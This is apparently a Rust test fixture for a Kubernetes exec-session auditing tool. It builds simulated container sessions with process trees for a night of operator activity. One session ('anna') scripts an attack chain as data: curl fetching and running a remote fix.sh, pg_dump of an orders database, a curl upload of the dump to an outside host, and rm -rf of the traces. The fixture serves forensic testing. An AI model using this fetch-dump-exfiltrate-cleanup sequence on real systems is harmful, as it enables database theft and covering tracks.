//! The record of a night: who was in which container, and what they ran. Names and times are those of the guide.

use jiff::{SignedDuration, Timestamp};
use serde_json::{Value, json};
use waybill_trace::{End, EventSource, ProcessState, RecordedProcess, RecordedSession, TraceKind};

use super::served::Record;

const DAY: &str = "2026-11-17T";

pub(super) fn time(clock: &str) -> Timestamp {
    format!("{DAY}{clock}Z").parse().unwrap()
}

/// A session with plain facts, for tests to change.
pub(super) fn session(
    id: &str,
    user: &str,
    place: &str,
    command: &[&str],
    from: &str,
    to: Option<&str>,
) -> RecordedSession {
    let (namespace, pod) = place.split_once('/').unwrap();
    let end = to.map_or(
        json!({"state": "running"}),
        |to| json!({"state": "exited", "at": time(to).to_string(), "code": 0}),
    );
    build(json!({
        "id": id, "kind": "exec", "auditID": audit_id(id), "session": id,
        "user": user, "uid": format!("uid-{user}"), "impersonator": null, "groups": ["oncall", "system:authenticated"], "source": ["10.20.3.41"],
        "namespace": namespace, "pod": pod, "container": "app", "containerID": format!("c-{pod}"),
        "command": command, "variables": ["KUBERNETES_EXEC_AUDIT_ID"], "started": time(from).to_string(), "end": end,
        "eventSource": "ebpf", "programs": 0, "lost": 0, "complete": true,
    }))
}

/// An ID as the API server gives them out.
pub(super) fn audit_id(id: &str) -> String {
    let number = id
        .bytes()
        .fold(0x5c1e_0f2a_u64, |sum, byte| sum.wrapping_mul(31).wrapping_add(u64::from(byte)));
    format!("{:08x}-7a43-4253-9abb-{:012x}", number & 0xffff_ffff, number & 0xffff_ffff_ffff)
}

fn build(value: Value) -> RecordedSession {
    serde_json::from_value(value).unwrap()
}

/// Programs of one session, in the order in which they are added.
pub(super) struct Programs {
    session: String,
    started: Timestamp,
    pub(super) all: Vec<RecordedProcess>,
}

impl Programs {
    pub(super) fn of(session: &RecordedSession) -> Self {
        Self { session: session.id.clone(), started: session.trace.started, all: Vec::new() }
    }

    /// A program that began `after` milliseconds, and took `took`; `None` while it runs.
    pub(super) fn add(
        &mut self,
        pid: u32,
        above: Option<u32>,
        after: i64,
        took: Option<i64>,
        arguments: &[&str],
    ) -> &mut RecordedProcess {
        let started =
            self.started + SignedDuration::from_millis(after) + SignedDuration::from_micros(137);
        let name = arguments.first().copied().unwrap_or_default();
        self.all.push(RecordedProcess {
            session: self.session.clone(),
            pid,
            parent: above.unwrap_or(1),
            parent_program: above,
            uid: 0,
            program: if name.starts_with('/') {
                name.to_owned()
            } else {
                format!("/usr/bin/{name}")
            },
            arguments: arguments.iter().map(|&one| one.to_owned()).collect(),
            cut: false,
            hidden_at: Vec::new(),
            started,
            state: if took.is_some() { ProcessState::Ended } else { ProcessState::Running },
            ended: took.map(|took| started + SignedDuration::from_millis(took)),
            exit_code: took.map(|_| 0),
            signal: None,
            moved: None,
            source: EventSource::Ebpf,
        });
        self.all.last_mut().unwrap()
    }

    /// The session with so many programs, and the programs.
    pub(super) fn close(self, session: &mut RecordedSession) -> Vec<RecordedProcess> {
        session.programs = u64::try_from(self.all.len()).unwrap();
        self.all
    }
}

/// The night of the guide.
pub(super) fn night() -> Record {
    let mut sessions = Vec::new();
    let mut processes = Vec::new();
    for (session, programs) in [anna(), ben(), carl(), dora(), attached(), debugged()] {
        sessions.push(session);
        processes.extend(programs);
    }
    for (session, programs) in (0..22).map(routine) {
        sessions.push(session);
        processes.extend(programs);
    }
    Record::of(sessions, processes)
}

type Told = (RecordedSession, Vec<RecordedProcess>);

/// Fetches something into the shop, and makes a database dump.
fn anna() -> Told {
    let mut session = session(
        "exec-7f21",
        "anna",
        "shop/web-6d4f9",
        &["bash"],
        "02:13:07.120",
        Some("02:19:44.006"),
    );
    session.trace.variables.push("TICKET".to_owned());
    let mut programs = Programs::of(&session);
    programs.add(48_211, None, 2, Some(396_880), &["bash"]);
    programs.add(48_214, Some(48_211), 3_410, Some(6), &["id"]);
    programs.add(48_219, Some(48_211), 9_020, Some(8), &["ls", "-la", "/app", "/app/config"]);
    programs
        .add(
            48_226,
            Some(48_211),
            21_730,
            Some(1_904),
            &[
                "curl",
                "-fsSL",
                "-H",
                "Authorization: ",
                "http://10.0.7.9:8000/fix.sh",
                "-o",
                "/tmp/fix.sh",
            ],
        )
        .hidden_at = vec![3];
    programs.add(48_240, Some(48_211), 31_200, Some(92_310), &["sh", "/tmp/fix.sh"]);
    programs.add(48_241, Some(48_240), 31_230, Some(12), &["mkdir", "-p", "/tmp/.cache"]);
    programs.add(
        48_242,
        Some(48_240),
        31_260,
        Some(61_020),
        &["pg_dump", "-h", "db.shop", "-U", "orders", "--no-owner", "orders"],
    );
    programs.add(48_243, Some(48_240), 31_262, Some(61_080), &["gzip", "-9"]);
    let sent = programs.add(
        48_251,
        Some(48_240),
        92_400,
        Some(31_080),
        &["curl", "-T", "/tmp/.cache/orders.sql.gz", "http://10.0.7.9:8000/up/"],
    );
    sent.exit_code = Some(28);
    programs.add(
        48_260,
        Some(48_211),
        131_500,
        Some(210),
        &["rm", "-rf", "/tmp/.cache", "/tmp/fix.sh"],
    );
    programs.add(48_266, Some(48_211), 140_900, Some(7), &["ps", "aux"]);
    let killed = programs.add(48_270, Some(48_211), 152_300, Some(44), &["kill", "-9", "48198"]);
    killed.exit_code = Some(1);
    let processes = programs.close(&mut session);
    (session, processes)
}

/// In the same container at the same time, for another reason.
fn ben() -> Told {
    let mut session = session(
        "exec-81c0",
        "ben",
        "shop/web-6d4f9",
        &["sh", "-c", "tail -n 200 /var/log/app/error.log | less"],
        "02:14:11.502",
        Some("02:16:02.310"),
    );
    let mut programs = Programs::of(&session);
    programs
        .add(
            48_230,
            None,
            1,
            Some(110_700),
            &["sh", "-c", "tail -n 200 /var/log/app/error.log | less"],
        )
        .uid = 1000;
    programs
        .add(48_231, Some(48_230), 4, Some(9), &["tail", "-n", "200", "/var/log/app/error.log"])
        .uid = 1000;
    programs.add(48_232, Some(48_230), 5, Some(110_690), &["less"]).uid = 1000;
    let processes = programs.close(&mut session);
    (session, processes)
}

/// Still there, for somebody else; one process was moved into the session, and events were lost.
fn carl() -> Told {
    let mut session = session(
        "exec-90aa",
        "carl",
        "shop/db-0",
        &["psql", "-U", "postgres"],
        "02:21:30.008",
        None,
    );
    session.trace.caller.as_mut().unwrap().impersonator = Some("unix:root".to_owned());
    session.lost = 14;
    session.complete = false;
    session.trace.moved = serde_json::from_value(json!([{"pid": 47_990, "command": ["/usr/sbin/backupd", "--once"], "reason": "olderThanSession"}])).unwrap();
    let mut programs = Programs::of(&session);
    programs.add(48_402, None, 3, None, &["psql", "-U", "postgres"]);
    programs.add(
        48_410,
        Some(48_402),
        41_000,
        Some(820),
        &["sh", "-c", "pg_dump orders > /tmp/o.sql"],
    );
    programs.add(48_411, Some(48_410), 41_004, Some(800), &["pg_dump", "orders"]);
    let processes = programs.close(&mut session);
    (session, processes)
}

/// A deployment that runs one program after the other in one process.
fn dora() -> Told {
    let mut session = session(
        "exec-6b02",
        "dora",
        "payments/api-7c9b8",
        &["/entry.sh", "migrate"],
        "02:06:40.300",
        Some("02:11:12.900"),
    );
    session.trace.end = End::Exited { at: time("02:11:12.900"), code: 3 };
    let mut programs = Programs::of(&session);
    let first = programs.add(47_101, None, 1, Some(120), &["/entry.sh", "migrate"]);
    first.state = ProcessState::Replaced;
    first.exit_code = None;
    let then = programs.add(
        47_101,
        None,
        121,
        Some(272_400),
        &["/app/bin/migrate", "--to", "2026111601", "--token", ""],
    );
    then.hidden_at = vec![4];
    then.exit_code = Some(3);
    programs.add(47_110, Some(47_101), 900, Some(4_100), &["/app/bin/check-schema", "--strict"]);
    let dead = programs.add(
        47_133,
        Some(47_101),
        261_000,
        Some(8_004),
        &["/app/bin/backfill", "--table", "invoices"],
    );
    dead.exit_code = None;
    dead.signal = Some(9);
    let processes = programs.close(&mut session);
    (session, processes)
}

fn attached() -> Told {
    let mut session =
        session("attach-11", "ben", "shop/worker-0", &[], "02:22:10.000", Some("02:24:30.000"));
    session.trace.kind = TraceKind::Attach;
    session.trace.stdin = Some(true);
    session.trace.end = End::Over { at: time("02:24:30.000") };
    session.event_source = None;
    (session, Vec::new())
}

fn debugged() -> Told {
    let mut session =
        session("debug-3e", "dora", "payments/api-7c9b8", &["sh"], "02:25:01.000", None);
    session.trace.kind = TraceKind::Debug;
    session.trace.container = "debugger-x2".to_owned();
    session.trace.container_id = Some("c-debugger".to_owned());
    let mut programs = Programs::of(&session);
    programs.add(48_500, None, 1, None, &["sh"]);
    programs.add(48_507, Some(48_500), 12_000, None, &["tcpdump", "-i", "eth0", "port", "5432"]);
    let processes = programs.close(&mut session);
    (session, processes)
}

/// What goes on all night.
fn routine(number: u32) -> Told {
    let (user, place, command) = match number % 4 {
        0 => ("ci-deploy", "shop/web-6d4f9", ["/app/bin/healthcheck", "--deep"]),
        1 => ("ci-deploy", "payments/api-7c9b8", ["/app/bin/healthcheck", "--deep"]),
        2 => {
            ("system:serviceaccount:ops:backup", "shop/db-0", ["/usr/local/bin/wal-push", "--fast"])
        }
        _ => ("eve", "shop/worker-0", ["cat", "/proc/1/status"]),
    };
    let start = time("01:52:00.000") + SignedDuration::from_secs(i64::from(number) * 97);
    let end = start + SignedDuration::from_millis(1_500 + i64::from(number) * 730);
    let clock =
        |time: Timestamp| time.to_string().trim_start_matches(DAY).trim_end_matches('Z').to_owned();
    let mut session = session(
        &format!("exec-r{number:02}"),
        user,
        place,
        &command,
        &clock(start),
        Some(&clock(end)),
    );
    let mut programs = Programs::of(&session);
    programs.add(46_000 + number, None, 1, Some(1_400), &command).uid = 1000;
    let processes = programs.close(&mut session);
    (session, processes)
}
